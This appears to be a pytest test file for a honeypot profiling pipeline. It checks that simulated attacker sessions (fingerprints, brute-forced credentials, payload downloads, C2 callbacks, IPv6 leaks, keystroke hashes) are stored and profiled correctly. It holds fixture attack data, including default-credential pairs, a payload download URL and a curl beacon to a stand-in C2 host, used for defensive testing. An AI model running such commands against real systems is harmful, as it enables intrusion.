"""Simulated lines through the real ingest pipeline and profiler: every signal lands, for the
right address, in its profile table."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from node.ingest.pipeline import IngestReport, ingest_sources
from node.profile.profiler import Profiler
from node.profile.stages import PROFILE_STAGES
from node.simulate.generate import Simulation, generate
from node.simulate.render import render_lines
from node.simulate.scenario import load_scenario, parse_scenario
from node.simulate.signals import (
    eui64_link_local,
    hassh_of,
    ja3_hash,
    ja4_of_ja3,
    payload_sha256,
    ssh_banner_of,
)
from node.simulate.truth import observations
from node.store import Store
from tests.scenarios import SCENARIO_NAMES, shared_scenario

JA3 = "771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16-5-13-43-45,29-23-24,0"
MAC = "00:16:3e:12:34:56"
SCENARIO = f"""
corpus:
  campaigns:
    - campaign:
        id: every-signal
        duration_days: 2
        actors:
          - id: typist
            asn: 64600
            ip_pool: rotating
            rotation_count: 2
            rotation_asns: [64600, 64601]
            ja3: "{JA3}"
            hassh: typist-tool
            keystroke_profile: typist
        phases:
          - name: credential_access
            tool_signature:
              credentials: [[admin, admin], [root, hunter2]]
            target_selector: {{count: 2}}
          - name: exploitation
            tool_signature:
              payload_hash: stage-one
              c2_callback: 203.0.113.80
            download_url: http://198.51.100.7/bins/x86
            target_selector: {{count: 2}}
          - name: discovery
            ipv6_leak_mac: "{MAC}"
            direct_tcpip: 198.51.100.200:443
            target_selector: {{count: 2, decky: previous_success}}
    - campaign:
        id: reserved-names
        actors: [{{id: quiet, hassh: quiet-tool}}]
        phases:
          - name: command_and_control
            tool_signature: {{c2_callback: c2.shared-op.example}}
  noise: {{scanner_count: 3}}
"""


async def ingested(tmp_path: Path, simulation: Simulation) -> tuple[Store, IngestReport]:
    log = tmp_path / "sensors.log"
    log.write_text("".join(line + "\n" for line in render_lines(simulation)), encoding="utf-8")
    store = await Store.open(tmp_path / "node.db", profilers=[Profiler()], stages=PROFILE_STAGES)
    report = await ingest_sources(store, [str(log)], batch_size=1000, max_line_bytes=65536)
    return store, report


@pytest.fixture
def simulation() -> Simulation:
    return generate(parse_scenario(SCENARIO, "every-signal"), 2026)


@pytest.fixture
async def store(tmp_path: Path, simulation: Simulation) -> AsyncIterator[Store]:
    store, report = await ingested(tmp_path, simulation)
    assert report.rejected_total == 0, report.rejections[:5]
    try:
        yield store
    finally:
        await store.close()


async def rows(store: Store, sql: str, *params: Any) -> set[tuple[Any, ...]]:
    return set(await store.fetch(sql, params))


async def test_every_address_of_the_truth_is_an_observation_and_nothing_else(
        store: Store, simulation: Simulation) -> None:
    found = {row.ip for row in await store.observations()}
    assert found == set(observations(simulation))


async def test_client_fingerprints_land_for_the_actor_addresses_only(
        store: Store, simulation: Simulation) -> None:
    truth = observations(simulation)
    typist = {ip for ip, t in truth.items() if t.identity == "typist"}
    assert len(typist) == 2

    stored = await rows(store, "SELECT ip, kind, value FROM profile_fingerprints")

    expected = {(ip, kind, value) for ip in typist for kind, value in (
        ("ja3", ja3_hash(JA3)), ("ja4", ja4_of_ja3(JA3)), ("hassh", hassh_of("typist-tool")),
        ("ssh_banner", ssh_banner_of("typist-tool")))}
    (quiet,) = [ip for ip, t in truth.items() if t.identity == "quiet"]
    expected |= {(quiet, "hassh", hassh_of("quiet-tool")),
                 (quiet, "ssh_banner", ssh_banner_of("quiet-tool"))}
    assert stored == expected  # scanners: no fingerprints at all


async def test_credentials_commands_and_phases_land_per_session(
        store: Store, simulation: Simulation) -> None:
    for session in simulation.sessions:
        credentials = await rows(store, "SELECT username, secret, outcome FROM"
                                        " profile_credentials WHERE ip = ?", session.ip)
        assert {(lg.username, lg.password, "success" if lg.success else "failed")
                for lg in session.logins} <= credentials
        commands = await rows(store, "SELECT honeypot, session, command FROM profile_commands"
                                     " WHERE ip = ?", session.ip)
        assert {(session.honeypot, session.session_id, c.text)
                for c in session.commands} <= commands
        phases = {p for (p,) in await rows(store, "SELECT phase FROM profile_phases WHERE"
                                                  " ip = ? AND honeypot = ?", session.ip,
                                           session.honeypot)}
        if session.phase in ("credential_access", "discovery"):
            assert session.phase in phases
        if session.phase == "exploitation":
            assert "command_and_control" in phases
    brute = [s for s in simulation.sessions if s.phase == "credential_access"]
    assert all(("admin", "admin", False) == (s.logins[0].username, s.logins[0].password,
                                             s.logins[0].success) for s in brute)


async def test_payloads_and_c2_endpoints_land_for_the_exploiting_addresses(
        store: Store, simulation: Simulation) -> None:
    exploiting = {s.ip for s in simulation.sessions if s.phase == "exploitation"}

    payloads = await rows(store, "SELECT ip, sha256, source FROM profile_payloads")
    c2 = await rows(store, "SELECT ip, host, via FROM profile_c2")

    assert payloads == {(ip, payload_sha256("stage-one"), "download") for ip in exploiting}
    for ip in exploiting:
        assert {(ip, "198.51.100.7", "download"), (ip, "198.51.100.7", "command"),
                (ip, "203.0.113.80", "command")} <= c2
    proxied = {s.ip for s in simulation.sessions if s.proxy is not None}
    assert {(ip, "198.51.100.200", "tcpip") for ip in proxied} <= c2


async def test_ipv6_leaks_land_with_the_mac_oui(store: Store, simulation: Simulation) -> None:
    leaking = {s.ip for s in simulation.sessions if s.phase == "discovery"}

    leaks = await rows(store, "SELECT ip, address, kind, oui FROM profile_ipv6_leaks")

    assert leaks == {(ip, eui64_link_local(MAC), "eui64", MAC[:8]) for ip in leaking}


async def test_keystroke_simhashes_land_for_recorded_sessions(
        store: Store, simulation: Simulation) -> None:
    recorded = [s for s in simulation.sessions if s.recording is not None]
    assert {s.identity for s in recorded} == {"typist"}

    stored = await store.fetch(
        "SELECT l.sid, l.ip, k.simhash FROM session_links l JOIN keystroke_simhashes k"
        " USING (sid)")

    by_sid = {sid: (ip, simhash) for sid, ip, simhash in stored}
    assert set(by_sid) == {s.recording.sid for s in recorded if s.recording}
    for session in recorded:
        assert session.recording is not None
        ip, simhash = by_sid[session.recording.sid]
        assert ip == session.ip
        assert simhash != "0" * 16
    per_phase: dict[str, set[str]] = {}
    for session in recorded:
        assert session.recording is not None
        per_phase.setdefault(session.phase, set()).add(by_sid[session.recording.sid][1])
    # The same hands typing the same commands: one SimHash per phase, from both addresses.
    assert all(len(values) == 1 for values in per_phase.values())


async def test_reserved_tld_c2_is_dropped_by_the_profiler_and_counted(
        store: Store, simulation: Simulation) -> None:
    (quiet,) = [s.ip for s in simulation.sessions if s.identity == "quiet"]

    c2 = await rows(store, "SELECT host FROM profile_c2 WHERE ip = ?", quiet)
    commands = await rows(store, "SELECT command FROM profile_commands WHERE ip = ?", quiet)
    rejections = {reason: count for reason, count in
                  await store.fetch("SELECT reason, count FROM profile_rejections")}

    assert ("curl -fsS http://c2.shared-op.example/beacon",) in commands
    assert c2 == set()
    assert rejections.get("c2:host:reserved_tld", 0) >= 1


@pytest.mark.parametrize("name", SCENARIO_NAMES)
async def test_every_shared_scenario_ingests_without_a_rejected_line(
        tmp_path: Path, name: str) -> None:
    simulation = generate(load_scenario(shared_scenario(name)), 5)

    store, report = await ingested(tmp_path, simulation)
    try:
        found = {row.ip for row in await store.observations()}
    finally:
        await store.close()

    assert report.rejected_total == 0, report.rejections[:5]
    assert report.events_stored == report.events_parsed == len(render_lines(simulation))
    assert found == set(observations(simulation))
